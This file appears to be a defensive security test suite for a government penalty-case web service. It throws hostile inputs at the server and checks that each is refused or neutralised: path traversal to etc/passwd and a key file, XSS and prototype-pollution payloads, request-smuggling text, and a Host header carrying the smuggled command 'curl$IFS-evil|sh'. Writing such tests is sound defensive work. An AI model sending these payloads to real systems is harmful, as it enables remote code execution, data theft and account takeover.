// What somebody tries who wants in, wants more, or wants it to break.

import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { aBody, type CastBody, castPassword } from '../../tests/support/body.ts';
import { aDatabase, type TestDatabase } from '../../tests/support/database.ts';
import { goodPassword, theThree } from '../../tests/support/people.ts';
import { type Answer, aServer, type TestServer } from '../../tests/support/server.ts';
import { publishBody, publishDecision, withdrawPublication } from '../disclosure/index.store.ts';
import { instantNow } from '../store/index.store.ts';

let db: TestDatabase;
let server: TestServer;
let body: CastBody;
const held: Record<string, Record<string, string>> = {};
beforeAll(async () => {
  db = await aDatabase();
  await theThree(db, instantNow());
  server = await aServer(db, { isDemonstration: false });
  body = await aBody(db, server.ruleBook, server.stage.book, { pack: 'anze' });
  for (const name of ['承办人甲', '承办人乙', '机构负责人'])
    held[name] = await signIn(body.people[name]!.userName);
  for (const name of ['system-admin', 'security-admin'])
    held[name] = await signIn(name, goodPassword);
});
afterAll(async () => {
  await server.close();
  await db.close();
});

async function signIn(
  userName: string,
  password = castPassword,
  headers: Record<string, string> = {},
): Promise<Record<string, string>> {
  const payload = { userName, password };
  const answer = await server.ask({ method: 'POST', url: '/api/session', payload, headers });
  const [cookie = ''] = String([answer.headers['set-cookie']].flat()[0]).split(';');
  return { cookie, 'x-csrf-token': String(answer.body.csrfToken) };
}

const ask = (
  who: string | Record<string, string>,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  payload?: object | string,
): Promise<Answer> =>
  server.ask({
    method,
    url,
    headers: {
      ...(typeof who === 'string' ? held[who] : who),
      ...(typeof payload === 'string' ? { 'content-type': 'application/json' } : {}),
    },
    ...(payload === undefined ? {} : { payload }),
  });

const today = () => instantNow().slice(0, 10);
const lead = (change: object = {}) => ({
  title: '未公示许可证案',
  source: 'inspection',
  foundOn: today(),
  summary: '经营场所没有公示许可证。',
  party: { kind: 'organisation', name: '城南示范食品有限公司' },
  ...change,
});
const expectRefused = (answer: Answer, statuses: readonly number[]) => {
  expect(statuses, JSON.stringify(answer.body)).toContain(answer.status);
  expect(server.faults).toEqual([]);
};

describe('a session is one browser’s, until it is ended', () => {
  test('given a session that was ended, when its cookie comes again, then 401, with any token', async () => {
    const session = await signIn(body.people['承办人乙']!.userName);
    expect((await ask(session, 'DELETE', '/api/session')).status).toBe(204);

    for (const [method, url] of [
      ['GET', '/api/session'],
      ['POST', '/api/cases'],
      ['DELETE', '/api/session'],
    ] as const)
      expect((await ask(session, method, url)).status).toBe(401);
  });

  test('given a token set from outside, when its victim signs in, then it opens nothing', async () => {
    const planted = 'mingfa_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
    const session = await signIn(body.people['承办人乙']!.userName, castPassword, {
      cookie: planted,
    });

    expect(session['cookie']).not.toBe(planted);
    expect((await ask({ cookie: planted }, 'GET', '/api/session')).status).toBe(401);
  });

  test('given the own live session of another, when a browser signs in over it, then that one ends', async () => {
    const theirs = await signIn(body.people['承办人乙']!.userName);
    const { cookie = '' } = theirs;
    await signIn(body.people['承办人乙']!.userName, castPassword, { cookie });

    expect((await ask(theirs, 'GET', '/api/session')).status).toBe(401);
  });

  test('given two cookies, a cut or a longer one, then 401 and no fault', async () => {
    const { cookie = '' } = held['承办人甲']!;
    for (const forged of [
      cookie.slice(0, -1),
      `${cookie}A`,
      `mingfa_session=; mingfa_session=`,
      `mingfa_session=${'A'.repeat(4000)}`,
      'mingfa_session=%00%ff%zz',
      `mingfa_session="${randomUUID()}"; __proto__=x; constructor=y`,
    ])
      expectRefused(await ask({ cookie: forged }, 'GET', '/api/session'), [401]);
  });

  test('given a sign-in, then scripts, other sites and caches do not get the cookie', async () => {
    const answer = await server.ask({
      method: 'POST',
      url: '/api/session',
      payload: { userName: body.people['承办人乙']!.userName, password: castPassword },
    });

    expect(String([answer.headers['set-cookie']].flat()[0])).toMatch(
      /; Max-Age=43200; Path=\/; HttpOnly; SameSite=Lax$/,
    );
    expect(answer.headers['cache-control']).toBe('no-store');
    expect(JSON.stringify(answer.body)).not.toContain('mingfa_session');
    expect((await ask('承办人甲', 'GET', '/api/cases')).headers['cache-control']).toBe('no-store');
  });
});

describe('what nobody asked for is not taken', () => {
  test('given an officer who is leaving, when roles, ids or versions are slipped in, then refused or without effect', async () => {
    const own = body.people['承办人甲']!;
    for (const extra of [
      { roles: ['leader'] },
      { agencyId: randomUUID() },
      { actorId: randomUUID() },
      { caseNumber: '我的案号' },
      { registration: { caseNumber: 'x' } },
      { caseId: randomUUID() },
      { at: '2020-01-01T00:00:00.000+08:00' },
      { constructor: { prototype: { isAdmin: true } } },
    ])
      expectRefused(await ask('承办人甲', 'POST', '/api/cases', lead(extra)), [400, 422]);
    expectRefused(
      await ask('system-admin', 'POST', '/api/accounts', {
        agencyId: body.agencyId,
        departmentId: null,
        userName: 'accomplice',
        displayName: '帮手',
        identity: 'GZ-7777',
        roles: ['system-admin'],
      }),
      [400, 422],
    );
    expectRefused(await ask('承办人甲', 'PUT', `/api/accounts/${own.id}/roles/leader`, {}), [403]);
    expectRefused(await ask('system-admin', 'PUT', `/api/accounts/${own.id}/roles/leader`), [403]);
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
  });

  test('given a key of somebody else, then it is one’s own key', async () => {
    const key = { 'idempotency-key': randomUUID() };
    const open = (name: string) => ask({ ...held[name]!, ...key }, 'POST', '/api/cases', lead());
    const [first, theirs, again] = [
      await open('承办人甲'),
      await open('承办人乙'),
      await open('承办人甲'),
    ];

    expect([first.status, theirs.status, again.status]).toEqual([201, 201, 201]);
    expect(theirs.body.caseId).not.toBe(first.body.caseId);
    expect(again.body).toEqual(first.body);
  });

  test('given one key many times at once, then one case and no number lost', async () => {
    const headers = { ...held['承办人甲']!, 'idempotency-key': randomUUID() };
    const before = await ask('承办人甲', 'POST', '/api/cases', lead());
    const answers = await Promise.all(
      Array.from({ length: 12 }, () => ask(headers, 'POST', '/api/cases', lead())),
    );
    const after = await ask('承办人甲', 'POST', '/api/cases', lead());
    const numberOf = ({ body: { caseNumber } }: Answer) =>
      Number(/(\d+)\D*$/.exec(caseNumber)?.[1]);

    expect(new Set(answers.map(({ status, body: { caseId } }) => `${status} ${caseId}`)).size).toBe(
      1,
    );
    expect([numberOf(answers[0]!), numberOf(after)]).toEqual([
      numberOf(before) + 1,
      numberOf(before) + 2,
    ]);
    expect(server.faults).toEqual([]);
  });
});

describe('an address means one thing', () => {
  test.each([
    '/API/cases',
    '//api/cases',
    '/api//cases',
    '/api/./cases',
    '/x/../api/cases',
    '/api/cases/',
    '/api/cases;x',
    '/api/cases%00',
    '/api/cases%2f',
    '/api%2fcases',
    '/%61pi/cases',
    '/api/cases/..%2faccounts',
    '/api/%2e%2e/api/cases',
    '/ledger/tile/../../api/cases',
    '/ledger/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/ledger/tile/0/..%2f..%2f..%2fsecret%2fledger.key',
    '/site.css/../../secret/ledger.key',
    '/decisions/..%2f..%2fapi%2fcases',
    '/\\api\\cases',
    '/%ff%fe',
    '/decisions?q=%ff%00',
    '/?__proto__[x]=1&constructor=2',
    `/decisions/${'9'.repeat(5000)}`,
  ])('given %s by nobody signed in, then neither a case nor a fault', async (url) => {
    const { status, body: said } = await server.ask({ method: 'GET', url });

    expect(status).toBeLessThan(500);
    expect(JSON.stringify(said)).not.toMatch(/caseNumber|PRIVATE KEY|root:/);
    if (status === 200) expect(url).toMatch(/^\/(?:decisions)?\?/);
  });

  test.each(['TRACE', 'CONNECT', 'PROPFIND', 'PATCH', 'OPTIONS'])(
    'given the method %s, then there is nothing to do',
    async (method) => {
      const { status } = await server.ask({ method, url: '/api/cases' });
      expect([400, 404, 405]).toContain(status);
    },
  );

  test('given a header that asks for another method, then it is not heard', async () => {
    const answer = await server.ask({
      method: 'GET',
      url: '/api/session',
      headers: { ...held['承办人甲']!, 'x-http-method-override': 'DELETE' },
    });
    expect([answer.status, (await ask('承办人甲', 'GET', '/api/session')).status]).toEqual([
      200, 200,
    ]);
  });
});

describe('a body is read as what it is, and no larger than it may be', () => {
  const raw = (text: string, type = 'application/json') =>
    server.ask({
      method: 'POST',
      url: '/api/cases',
      headers: { ...held['承办人甲']!, 'content-type': type },
      payload: text,
    });
  const json = (change: string) => JSON.stringify(lead()).replace(/^\{/, `{${change},`);

  test.each([
    ['depth', `{"title":${'['.repeat(5000)}${']'.repeat(5000)}}`, [400, 422]],
    ['depth without end', '['.repeat(500_000), [400, 422]],
    ['a number beyond all', json('"fineFen":1e400'), [400, 422]],
    ['a number of many digits', json(`"fineFen":${'9'.repeat(100_000)}`), [400, 422]],
    ['__proto__', json('"__proto__":{"isAdmin":true}'), [400]],
    ['__proto__ in disguise', json('"\\u005f_proto__":{"isAdmin":true}'), [400]],
    ['a constructor', json('"constructor":{"prototype":{}}'), [400, 422]],
    ['a lone surrogate', json('"title":"\\ud800"').replace('"title":"未公示许可证案",', ''), [422]],
    ['NUL', JSON.stringify(lead({ title: 'a\u0000b' })), [422]],
    ['no object', '[]', [400, 422]],
    ['null', 'null', [400, 422]],
    ['nothing', '', [400, 422]],
    ['a text cut off', '{"title":"', [400]],
    ['2 MB', JSON.stringify(lead({ summary: 'x'.repeat(2_000_000) })), [413]],
    ['a title of 900 KB', JSON.stringify(lead({ title: 'x'.repeat(900_000) })), [422]],
    [
      '100,000 fields',
      `{${Array.from({ length: 60_000 }, (_, n) => `"f${n}":1`).join(',')}}`,
      [422],
    ],
  ])('given %s, then refused in a few sentences', async (_, text, statuses) => {
    const answer = await raw(text);

    expectRefused(answer, statuses);
    expect(JSON.stringify(answer.body).length).toBeLessThan(20_000);
  });

  test('given the same name twice, then the last one counts, as everywhere', async () => {
    const answer = await raw(json('"title":"甲"'));
    const seen = await ask('承办人甲', 'GET', `/api/cases/${answer.body.caseId}`);
    expect(seen.body.title).toBe('未公示许可证案');
  });

  test('given a long list of nonsense, then refused in a few sentences', async () => {
    const opened = await ask('承办人甲', 'POST', '/api/cases', lead());
    const url = `/api/cases/${opened.body.caseId}/commands/assign-officers`;
    const answer = await ask('机构负责人', 'POST', url, { officers: Array(150_000).fill('x') });

    expectRefused(answer, [422]);
    expect(JSON.stringify(answer.body).length).toBeLessThan(20_000);
  });

  test('given a name as long as the body, then it is not said again', async () => {
    for (const answer of [
      await raw(json(`"${'名'.repeat(200_000)}":1`)),
      await ask('system-admin', 'POST', '/api/accounts', { ['名'.repeat(200_000)]: 1 }),
    ]) {
      expectRefused(answer, [400, 422]);
      expect(JSON.stringify(answer.body).length).toBeLessThan(5000);
    }
  });

  test('given what a terminal takes for an order, then refused; a break of line is kept', async () => {
    const escape = lead({ summary: 'a\u001b[2Jb' });
    expectRefused(await ask('承办人甲', 'POST', '/api/cases', escape), [422]);
    const lines = await ask('承办人甲', 'POST', '/api/cases', lead({ summary: '甲\n乙' }));
    expect(lines.status).toBe(201);
  });

  test.each([
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    '',
  ])('given the type %s, which another site could send unasked, then refused', async (type) =>
    expectRefused(await raw(JSON.stringify(lead()), type), [400, 415, 422]),
  );
});

describe('what is no proper request is turned away, and the server goes on', () => {
  let port: number;
  beforeAll(async () => {
    await server.app.listen({ host: '127.0.0.1', port: 0 });
    port = (server.app.server.address() as AddressInfo).port;
  });
  const send = (text: string): Promise<string> =>
    new Promise((resolve) => {
      let answer = '';
      const socket = connect(port, '127.0.0.1', () => socket.write(text));
      socket.on('data', (part) => {
        answer += String(part);
      });
      socket.on('error', () => {});
      socket.on('close', () => resolve(answer));
    });

  test.each([
    ['garbage', 'hello\r\n\r\n', /^HTTP\/1\.1 400 /],
    [
      'headers of 100 KB',
      `GET / HTTP/1.1\r\nhost: x\r\nx: ${'a'.repeat(100_000)}\r\n\r\n`,
      /^HTTP\/1\.1 431 /,
    ],
    [
      'two lengths',
      'POST /api/session HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\ncontent-length: 30\r\n\r\n{}',
      /^HTTP\/1\.1 400 /,
    ],
    [
      'a length and chunks',
      'POST /api/session HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n',
      /^HTTP\/1\.1 400 /,
    ],
    [
      'a header in a header',
      'GET / HTTP/1.1\r\nhost: x\r\nx: a\rset-cookie: b\r\n\r\n',
      /^HTTP\/1\.1 400 /,
    ],
    ['no host', 'GET / HTTP/1.1\r\nconnection: close\r\n\r\n', /^HTTP\/1\.1 400 /],
  ])('given %s, then an answer and the end', async (_, text, expected) => {
    const answer = await send(text);

    expect(answer).toMatch(expected);
    expect(answer).not.toMatch(/mingfa_database/);
    expect((await server.ask({ method: 'GET', url: '/healthz' })).status).toBe(200);
  });

  test('given a host that is a command, then the page about the ledger does not repeat it', async () => {
    const answer = await send(
      'GET /ledger HTTP/1.1\r\nhost: x;curl$IFS-evil|sh\r\nconnection: close\r\n\r\n',
    );
    expect(answer).not.toContain('evil');
  });
});

describe('the public pages show texts as texts', () => {
  const planted = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "';alert(1)//",
    '</title><svg onload=alert(1)>',
    '${7*7}{{7*7}}',
    '&lt;b&gt;',
  ].join(' ');
  const decisionId = randomUUID();
  const agencyId = randomUUID();
  const exits = () => [
    '/',
    '/decisions',
    `/decisions?q=${encodeURIComponent('alert(1)')}`,
    `/decisions?q=${encodeURIComponent(planted)}&body=${agencyId}&year=2026&kind=%3Cb%3E`,
    `/decisions/${decisionId}`,
    `/bodies/${agencyId}`,
    `/bodies/${encodeURIComponent(planted)}`,
    `/${encodeURIComponent(planted)}`,
    '/ledger',
    '/help',
    `/help/${encodeURIComponent(planted)}`,
    '/api/docs',
    `/api/docs/${encodeURIComponent(planted)}`,
  ];
  beforeAll(async () => {
    await publishBody(db.pool, {
      agencyId,
      name: `示范局${planted}`,
      ruleTitle: planted,
      facts: [{ title: planted, value: planted }],
    });
    await publishDecision(db.pool, {
      agencyId,
      decisionId,
      caseId: randomUUID(),
      decisionNumber: planted,
      caseName: planted,
      party: { name: planted, isPerson: false },
      facts: planted,
      law: planted,
      punishment: planted,
      penaltyKinds: ['罚款'],
      amountFen: 100,
      decidedOn: '2026-03-02',
      publishedAt: '2026-03-09T09:00:00.000+08:00',
      form: 'full',
      fields: [{ code: 'x', title: planted, value: planted }],
      document: planted,
      isNameRequired: false,
      privateTexts: [],
    });
  });

  const expectHarmless = async () => {
    for (const url of exits()) {
      const { headers, body: page } = await server.ask({ method: 'GET', url });
      expect(headers['content-type']).toBe('text/html; charset=utf-8');
      expect(headers['content-security-policy']).toMatch(/^default-src 'none'/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      // The charts are ours; what stands in them must be as harmless as the rest.
      const own = String(page).replaceAll('<svg class="chart"', '<chart').replaceAll('</svg>', '');
      const tags = new Set([...own.matchAll(/<\/?([a-z0-9]+)/gi)].map((tag) => tag[1]));
      expect([url, tags.has('script'), tags.has('img'), tags.has('svg')]).toEqual([
        url,
        false,
        false,
        false,
      ]);
      // An attribute that begins inside a text would begin after a quotation mark.
      expect(String(page)).not.toMatch(/<[^<>]*\son\w+=/i);
    }
  };

  test('given code in every public field, then no page runs it', async () => {
    await expectHarmless();
    const shown = await server.ask({ method: 'GET', url: `/decisions/${decisionId}` });
    expect(shown.body).toContain('&#60;script&#62;alert(1)');
  });

  test.each(['%', '_', '%%', '\\', "' or 1=1 --", '*', ':*', '!', '&', '|', '<->', '()', '..'])(
    'given %s as what is sought, then it is a text and finds what holds it',
    async (sought) => {
      const { status, body: page } = await server.ask({
        method: 'GET',
        url: `/decisions?q=${encodeURIComponent(`无此${sought}`)}`,
      });
      expect([status, /没有找到符合的决定/.test(String(page))]).toEqual([200, true]);
    },
  );

  test('given a withdrawal with code in its reason, then the notice does not run it either', async () => {
    await withdrawPublication(db.pool, {
      agencyId,
      decisionId,
      reason: planted,
      withdrawnAt: '2026-04-01T09:00:00.000+08:00',
    });
    await expectHarmless();
    const gone = await server.ask({ method: 'GET', url: `/decisions/${decisionId}` });
    expect(gone.status).toBe(410);
  });
});

describe('one person is one account, whatever is typed', () => {
  const create = (userName: string, identity: string) =>
    ask('system-admin', 'POST', '/api/accounts', {
      agencyId: null,
      departmentId: null,
      userName,
      displayName: '甲',
      identity,
    });

  test('given an identity in another width, case, with blanks or unseen marks, then the same person', async () => {
    expect((await create('first.one', 'GZ-2026-x')).status).toBe(201);
    for (const [n, identity] of [
      'ＧＺ-２０２６-Ｘ',
      'gz-2026-X',
      ' GZ- 2026\u3000-x ',
      'GZ-20\u200b26-x',
      'GZ\u00ad-2026-x\ufeff',
    ].entries())
      expect(await create(`other.${n}`, identity)).toMatchObject({
        status: 409,
        body: { code: 'access.person-has-account' },
      });
  });

  test('given a name that looks like another, then refused', async () => {
    for (const userName of [
      'first.оne',
      'ﬁrst.one',
      'FIRST.ONE',
      'first\u200b.one',
      'fir\u0455t.one',
      'ｆirst.one',
    ])
      expectRefused(await create(userName, `GZ-${randomUUID()}`), [409, 422]);
  });
});
